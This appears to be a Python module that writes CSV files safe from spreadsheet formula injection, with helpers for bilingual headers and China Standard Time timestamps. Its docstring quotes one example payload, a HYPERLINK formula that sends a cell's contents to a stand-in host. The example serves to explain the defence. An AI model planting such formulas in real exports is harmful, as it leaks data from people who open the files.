"""CSV that spreadsheet programs open safely: no cell is ever run as a formula.

A platform chooses its institution's name; a name such as
``=HYPERLINK("http://x/?"&A1,"详情")`` written raw into a CSV runs when a
regulator opens the file. Every CSV careledger writes for people goes
through ``SpreadsheetWriter``, which follows OWASP's advice on CSV injection:
a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is prefixed with ``'``, so the program shows it as text. Plain
numbers (``-12.5``, ``+3``) are left as they are: they run nothing.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any, Protocol

__all__ = [
    "CHINA_TIME",
    "SpreadsheetWriter",
    "bilingual_header",
    "china_time_text",
    "machine_name",
    "read_table",
    "safe_cell",
]

#: China Standard Time, the province's clock: every time a CSV careledger writes is in it.
CHINA_TIME = timezone(timedelta(hours=8), "CST")
_HEADER_SEPARATOR = " / "

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value to write in a cell: None as empty, a would-be formula as quoted text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SpreadsheetWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out: _Writable, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])


def bilingual_header(names: Mapping[str, str]) -> list[str]:
    """A header row from machine names to Chinese labels: ``机构编码 / institution_code``."""
    return [f"{zh}{_HEADER_SEPARATOR}{name}" for name, zh in names.items()]


def machine_name(header: str) -> str:
    """The machine name of a header cell (``institution_code`` of ``机构编码 /
    institution_code``); a header written by an older version is its own name."""
    return header.rpartition(_HEADER_SEPARATOR)[2].strip()


def read_table(text: str) -> list[dict[str, str]]:
    """The rows of a CSV careledger wrote (byte-order mark allowed), keyed by machine name."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    header = [machine_name(cell) for cell in next(rows, [])]
    return [dict(zip(header, row, strict=True)) for row in rows]


def china_time_text(moment: datetime) -> str:
    """An aware time as ISO 8601 in China Standard Time, offset written: ``...T09:30:00+08:00``.

    Requires an aware ``moment`` (a naive one has no place on any clock)."""
    if moment.tzinfo is None:
        raise ValueError("a time written to a file must be aware")
    return moment.astimezone(CHINA_TIME).isoformat()
